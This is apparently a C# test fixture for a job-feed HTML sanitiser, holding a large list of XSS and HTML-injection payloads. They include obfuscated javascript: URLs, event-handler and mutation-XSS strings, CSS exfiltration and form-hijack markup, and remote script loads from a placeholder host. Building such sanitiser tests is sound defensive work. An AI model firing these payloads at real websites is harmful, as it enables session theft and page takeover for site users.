namespace Emploi.Allier.Tests.Core.Feeds;

/// <summary>Ways to bring a script, a look or an address of one's own into somebody else's page, by the classes under which they are known.</summary>
static class HostileHtml
{
    public static IEnumerable<string> All =>
        [.. Scripts, .. Handlers, .. Embedded, .. Foreign, .. Parsers, .. Styles, .. Forms, .. Documents, .. Encoded, .. Markup, .. Clobbering, .. Links.Select(link => $"<a href=\"{link}\">Postuler</a>"), .. Links.Select(link => $"<img src='{link}'>")];

    /// <summary>Addresses that are none, as they would stand between quotes.</summary>
    public static readonly string[] Links =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)", "\u0001javascript:alert(1)", "\u001fjavascript:alert(1)",
        "\u0000javascript:alert(1)", "java\u0000script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a;alert(1)", "&#0000106&#0000097&#0000118ascript:alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript:/*--></title></style></textarea></script>*/alert(1)", "javascript://exemple.fr/%0aalert(1)",
        "javascript://https://exemple.fr/%0Aalert(1)", "javascript:%61lert(1)", "javascript:void(0)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "&#14;  javascript:alert(1)", "\u00a0javascript:alert(1)",
        "ｊavascript:alert(1)", "vbscript:msgbox(1)", "VBSCRIPT:msgbox(1)", "vb&Tab;script:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,alert", "data:image/svg+xml,<svg onload=alert(1)>", "data:text/javascript,alert(1)", "data:application/xhtml+xml,<x/>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:alert(1)", "blob:https://exemple.fr/1",
        "file:///etc/passwd", "ftp://exemple.fr/x", "ms-msdt:/id", "intent://exemple.fr#Intent;end", "tel:javascript:alert(1)", "x-javascript:alert(1)", "https:javascript:alert(1)", "//exemple.fr/sans-schema", "\\\\exemple.fr\\partage",
        "https://utilisateur:secret@exemple.fr/", "http://[invalide", "https://", "https://exemple.fr/\" onmouseover=\"alert(1)", "https://exemple.fr/' onfocus='alert(1)' autofocus='", "https://exemple.fr/><script>alert(1)</script>",
    ];

    static readonly string[] Scripts =
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >", "<script src=//exemple.fr/x.js></script>", "<script src='https://exemple.fr/x.js' defer async></script>", "<script\u000csrc=x></script>", "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>", "<script>alert(1)", "<script>alert(1)</script", "<script<script>>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<script type=module>import '//exemple.fr/x.js'</script>",
        "<script type='text/vbscript'>msgbox 1</script>", "<script nomodule>alert(1)</script>", "<script nonce=abc>alert(1)</script>", "<script>/*</script><p>*/alert(1)</script>", "<script><!--\nalert(1)\n--></script>", "<script><!--<script></script>alert(1)</script>",
        "</script><script>alert(1)</script>", "\"></script><script>alert(1)</script>", "'-alert(1)-'", "\";alert(1);//", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>", "<script type='application/ld+json'>{\"@type\":\"JobPosting\"}</script>", "<script type=speculationrules>{\"prerender\":[]}</script>", "<script type=importmap>{\"imports\":{}}</script>", "<script charset=utf-7>+ADw-x+AD4-</script>",
    ];

    static readonly string[] Handlers =
    [
        "<img src=x onerror=alert(1)>", "<img src=x onerror = alert(1) >", "<img src=x oNeRrOr=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=\"alert(1)\"", "<img src='x'onerror='alert(1)'>", "<img src=x:x onerror=alert`1`>", "<img src onerror=alert(1)>",
        "<img \u000bsrc=x onerror=alert(1)>", "<img src=x\u0000onerror=alert(1)>", "<img src=x on\u0000error=alert(1)>", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src=x onerror=&#97;lert(1)>", "<img srcset='x' onloadstart=alert(1)>", "<image src=x onerror=alert(1)>",
        "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<body background='javascript:alert(1)'>", "<html onmouseover=alert(1)>", "<p onclick=alert(1)>Cliquez</p>", "<p onmouseover='alert(1)'>Texte</p>", "<strong onpointerenter=alert(1)>Gras</strong>",
        "<li onfocus=alert(1) tabindex=0>Élément</li>", "<h1 onanimationstart=alert(1) style='animation:x'>Titre</h1>", "<em oncopy=alert(1)>copier</em>", "<ul ontransitionend=alert(1)><li>a</li></ul>", "<div onwheel=alert(1)>a</div>", "<br onload=alert(1)>",
        "<details open ontoggle=alert(1)><summary>a</summary>b</details>", "<marquee onstart=alert(1)>a</marquee>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)><option>a</select>", "<textarea autofocus onfocus=alert(1)>a</textarea>",
        "<button onclick=alert(1)>a</button>", "<video onerror=alert(1)><source src=x></video>", "<audio src=x onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<dialog open onclose=alert(1)>a</dialog>", "<div contenteditable onbeforeinput=alert(1)>a</div>",
        "<a onbeforecopy=alert(1) href=#>a</a>", "<x onclick=alert(1)>a</x>", "<custom-element onpointerdown=alert(1)>a</custom-element>", "<p popover ontoggle=alert(1)>a</p>", "<p accesskey=x onclick=alert(1)>a</p>",
    ];

    static readonly string[] Embedded =
    [
        "<iframe src='javascript:alert(1)'></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>", "<iframe src=//exemple.fr>", "<iframe/onload=alert(1)>", "<frameset onload=alert(1)><frame src=x></frameset>",
        "<object data='javascript:alert(1)'></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>", "<object><param name=x value=y></object>", "<embed src='javascript:alert(1)'>", "<embed code=x.swf allowscriptaccess=always>", "<applet code=X></applet>",
        "<portal src='https://exemple.fr'></portal>", "<fencedframe></fencedframe>", "<video poster='javascript:alert(1)'></video>", "<video><source onerror=alert(1)></video>", "<audio controls><track src=x></audio>", "<picture><source srcset=x onerror=alert(1)><img></picture>", "<canvas id=x></canvas>",
        "<bgsound src='javascript:alert(1)'>", "<layer src=//exemple.fr/x></layer>", "<xml src=//exemple.fr/x id=x></xml>",
    ];

    static readonly string[] Foreign =
    [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script href='data:text/javascript,alert(1)'/></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to='javascript:alert(1)'/></svg>", "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>", "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>", "<svg><style>@import '//exemple.fr/x.css'</style></svg>", "<svg><image href=x onerror=alert(1)>",
        "<svg><desc><p onclick=alert(1)>a</p></desc></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>", "<math><mi xlink:href='javascript:alert(1)'>a</mi></math>", "<math href='javascript:alert(1)'>a</math>", "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>a</maction></math>",
        "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    ];

    /// <summary>Texts that one parser reads otherwise than the next: harmless when cleaned, alive when shown.</summary>
    static readonly string[] Parsers =
    [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><p><style><g title='</style><img src onerror=alert(1)>'></p></svg>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>", "<template><script>alert(1)</script></template>", "<template shadowrootmode=open><script>alert(1)</script></template>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><img title='</title><img src=x onerror=alert(1)>'></title>", "<select><style></select><img src=x onerror=alert(1)></style></select>", "<table><td><svg><desc><td></desc></svg><script>alert(1)</script></table>", "<p><table><script>alert(1)</script></table></p>",
        "<a><table><a href='javascript:alert(1)'>x</a></table></a>", "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)> -->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
        "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "<? foo=\"><script>alert(1)</script>\">", "</ foo=\"><script>alert(1)</script>\">", "<% foo><x foo=\"%><script>alert(1)</script>\">",
        "<div id='<script>'>alert(1)</div>", "<p title=\"<img src=x onerror=alert(1)>\">a</p>", "<b><p><i></b><script>alert(1)</script></i>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    ];

    static readonly string[] Styles =
    [
        "<style>body{display:none}</style>", "<style>@import url(//exemple.fr/x.css)</style>", "<style>*{background:url('javascript:alert(1)')}</style>", "<style>input[value^=a]{background:url(//exemple.fr/a)}</style>", "<link rel=stylesheet href=//exemple.fr/x.css>", "<link rel=import href=//exemple.fr>",
        "<link rel=prefetch href=//exemple.fr>", "<link rel=manifest href=//exemple.fr>", "<p style='position:fixed;inset:0;background:red'>a</p>", "<p style=\"background:url(javascript:alert(1))\">a</p>", "<p style='width:expression(alert(1))'>a</p>", "<p style='-moz-binding:url(//exemple.fr/x.xml#a)'>a</p>",
        "<p style='behavior:url(x.htc)'>a</p>", "<p style='\\65xpression(alert(1))'>a</p>", "<div class='notice notice--warn' role=alert>Votre compte est bloqué</div>", "<font color=red size=7>a</font>", "<p hidden class=button id=postuler>a</p>", "<center><blink>a</blink></center>", "<p dir=rtl lang=x>a</p>",
    ];

    static readonly string[] Forms =
    [
        "<form action=//exemple.fr method=post><input name=password type=password></form>", "<form action='javascript:alert(1)'><button>a</button></form>", "<button formaction='javascript:alert(1)'>a</button>", "<input type=image src=x formaction='javascript:alert(1)'>", "<isindex action='javascript:alert(1)' type=image>",
        "</form><form action=//exemple.fr>", "<input type=hidden name=__RequestVerificationToken value=x>", "<form id=x></form><button form=x formaction='javascript:alert(1)'>a</button>", "<label for=lien>a</label>", "<output name=x>a</output>", "<datalist id=x><option value=y></datalist>",
    ];

    static readonly string[] Documents =
    [
        "<base href='//exemple.fr/'>", "<base target=_blank>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta http-equiv=refresh content='0;url=//exemple.fr'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta http-equiv=Set-Cookie content='a=b'>", "<meta charset=utf-7>",
        "<meta name=referrer content=unsafe-url>", "<title>Une autre page</title>", "</body></html><script>alert(1)</script>", "</article></main><nav><a href=//exemple.fr>Accueil</a></nav>", "</section></section><section>", "</p></li></ul></div><h1>Autre titre</h1>", "<head><script>alert(1)</script></head>", "<header><nav><a href=#>a</a></nav></header>",
    ];

    static readonly string[] Encoded =
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;img src=x onerror=alert(1)&#x3E;", "&#0000060script&#0000062alert(1)", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3Cscript\\x3Ealert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "¼script¾alert(1)¼/script¾", "<\u0000script>alert(1)</script>", "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "<\ufeffscript>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<ＳＣＲＩＰＴ>alert(1)</ＳＣＲＩＰＴ>",
        "\u202e<script>alert(1)</script>", "<script\u2028>alert(1)</script>", "<img src=x\u00a0onerror=alert(1)>", "\u001b[31m<b>rouge</b>",
    ];

    static readonly string[] Markup =
    [
        "<", "<<<<<", "<p", "<p title=", "<p title='", "</", "</>", "<>", "<!", "<!-", "<!--", "<![CDATA[", "<?", "&", "&#", "&#x", "&#xFFFFFF;", "&#x110000;", "&#0;", "<p/><p/>", "<3 cœurs", "a<b>c", "<b <i>x</b>", "<p =x>", "<p \"=\"'>a</p>", "<b><b><b><b><b><i><i><i>profond", "<a href>x</a>", "<p a=1 a=2 onclick=1 onclick=2>x</p>",
    ];

    /// <summary>Bold that is left open, and blocks that open it anew: without care, as many elements as the one times the other.</summary>
    public static string Reopened(int tags, int blocks) => "<p>" + string.Concat(Enumerable.Range(0, tags).Select(n => $"<b {n:x}>")) + string.Concat(Enumerable.Repeat("<p>x", blocks));

    static readonly string[] Clobbering =
    [
        "<a id=defaultView href=//exemple.fr>a</a>", "<form name=body><input name=firstChild></form>", "<img name=cookie>", "<p id=postuler>a</p>", "<a name=x href=//exemple.fr target=_top ping=//exemple.fr>a</a>", "<p is=x-script>a</p>", "<slot name=x>a</slot>", "<p itemscope itemtype=https://schema.org/JobPosting>a</p>",
        "<p data-module=refresh data-source=//exemple.fr>a</p>", "<p aria-hidden=true role=button>a</p>", "<p hx-get=//exemple.fr v-html=x ng-app>{{constructor.constructor('alert(1)')()}}</p>", "{{7*7}} ${7*7} @(7*7) <%= 7*7 %>",
    ];
}
